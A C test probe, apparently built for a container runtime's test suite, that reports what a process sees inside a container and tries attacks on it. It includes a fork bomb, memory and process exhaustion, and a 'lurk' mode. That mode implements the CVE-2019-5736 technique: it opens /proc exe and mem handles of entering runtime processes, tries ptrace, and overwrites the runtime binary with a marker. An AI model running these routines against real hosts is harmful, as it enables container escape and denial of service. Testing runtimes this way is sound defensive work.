/* A program that a test puts into a container's root to tell what it sees there, or to attack whoever enters.
 *
 * Input: a word and its arguments on the command line. Output: lines on standard output. The exit code is 0 unless the word is unknown: the
 * tests compare, this program only tells. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Each open descriptor, but the one of the listing itself. */
static void tell_descriptors(void) {
  for (int fd = 0; fd < 4096; fd++) {
    char link[64], target[PATH_MAX];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (fcntl(fd, F_GETFD) < 0) continue;
    ssize_t length = readlink(link, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    printf("fd %d %s\n", fd, target);
  }
}

static void tell_scheduling(void) {
  struct sched_param param = {0};
  sched_getparam(0, &param);
  printf("policy %d priority %d nice %d io %ld personality %x\n", sched_getscheduler(0), param.sched_priority,
         getpriority(PRIO_PROCESS, 0), syscall(SYS_ioprio_get, 1, 0), personality(0xffffffff));
}

static void tell_clocks(void) {
  struct timespec monotonic, boot;
  clock_gettime(CLOCK_MONOTONIC, &monotonic);
  clock_gettime(CLOCK_BOOTTIME, &boot);
  printf("monotonic %ld boot %ld\n", (long)monotonic.tv_sec, (long)boot.tv_sec);
}

/* One system call by its number: result and errno. */
static void call(int count, char **words) {
  long a[7] = {0};
  for (int i = 0; i < count && i < 7; i++) a[i] = strtol(words[i], NULL, 0);
  errno = 0;
  long result = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
  printf("call %ld result %ld errno %d\n", a[0], result, errno);
}

static void eat_memory(long mebibytes) {
  for (long i = 0; i < mebibytes; i++) {
    char *at = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (at == MAP_FAILED) {
      printf("refused after %ld\n", i);
      return;
    }
    memset(at, 1, 1 << 20);
  }
  printf("ate %ld\n", mebibytes);
}

static void fork_until_refused(long count) {
  long forked = 0;
  for (; forked < count; forked++) {
    pid_t pid = fork();
    if (pid < 0) break;
    if (pid == 0) {
      pause();
      _exit(0);
    }
  }
  printf("forked %ld errno %d\n", forked, forked < count ? errno : 0);
  fflush(stdout);
  signal(SIGTERM, SIG_IGN);
  kill(0, SIGTERM);
}

/* Never ends, fills every place that it gets. */
static void bomb(void) {
  for (;;) {
    pid_t pid = fork();
    if (pid < 0) usleep(1000);
  }
}

/* Whatever is none of the container's own programs: of a mount that is in no namespace the name is only "/". */
static int is_runtime(const char *exe) { return exe[0] && strcmp(exe, "/bin/busybox") && strcmp(exe, "/bin/inside"); }

/* Images of the runtime: they cannot be written while anybody executes them (ETXTBSY), so they are held until later (CVE-2019-5736). */
#define HELD_MAX 64
static int held[HELD_MAX];
static int held_count;

static void overwrite_held(void) {
  for (int i = 0; i < held_count; i++) {
    char own[64];
    snprintf(own, sizeof own, "/proc/self/fd/%d", held[i]);
    int out = open(own, O_WRONLY | O_CLOEXEC);
    if (out >= 0) {
      printf("OVERWRITTEN %zd\n", write(out, "#!overwritten\n", 14));
      close(out);
    }
  }
}

/* What one process of the container can do to another that is still the runtime. */
static void attack(int pid) {
  char path[64], exe[PATH_MAX] = "";
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int image = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t length = readlink(path, exe, sizeof exe - 1);
  exe[length < 0 ? 0 : length] = 0;
  if (image >= 0 && is_runtime(exe) && held_count < HELD_MAX) held[held_count++] = image;
  else if (image >= 0) close(image);
  if (is_runtime(exe)) printf("READABLE exe %s\n", exe);
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR | O_CLOEXEC);
  if (memory >= 0) {
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    length = readlink(link, exe, sizeof exe - 1);
    exe[length < 0 ? 0 : length] = 0;
    if (is_runtime(exe)) printf("MEMORY of %s\n", exe);
    close(memory);
  }
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    length = readlink(path, exe, sizeof exe - 1);
    exe[length < 0 ? 0 : length] = 0;
    if (is_runtime(exe)) printf("TRACED %s\n", exe);
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

/* Everything that comes into the container is attacked, for that long. */
static void lurk(long seconds) {
  printf("lurking\n");
  fflush(stdout);
  long seen = 0;
  int newest = getpid();
  for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
    for (int pid = 1; pid < newest + 64; pid++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d", pid);
      if (pid == getpid() || access(path, F_OK) != 0) continue;
      if (pid >= newest) newest = pid;
      seen++;
      attack(pid);
    }
  }
  for (int i = 0; i < 40 && held_count; i++) {
    overwrite_held();
    usleep(50000);
  }
  printf("saw %ld\n", seen);
}

int main(int count, char **words) {
  const char *word = count > 1 ? words[1] : "";
  long number = count > 2 ? strtol(words[2], NULL, 0) : 0;
  if (!strcmp(word, "descriptors")) tell_descriptors();
  else if (!strcmp(word, "scheduling")) tell_scheduling();
  else if (!strcmp(word, "clocks")) tell_clocks();
  else if (!strcmp(word, "call")) call(count - 2, words + 2);
  else if (!strcmp(word, "eat")) eat_memory(number);
  else if (!strcmp(word, "fork")) fork_until_refused(number);
  else if (!strcmp(word, "bomb")) bomb();
  else if (!strcmp(word, "lurk")) lurk(number);
  else return 2;
  return 0;
}
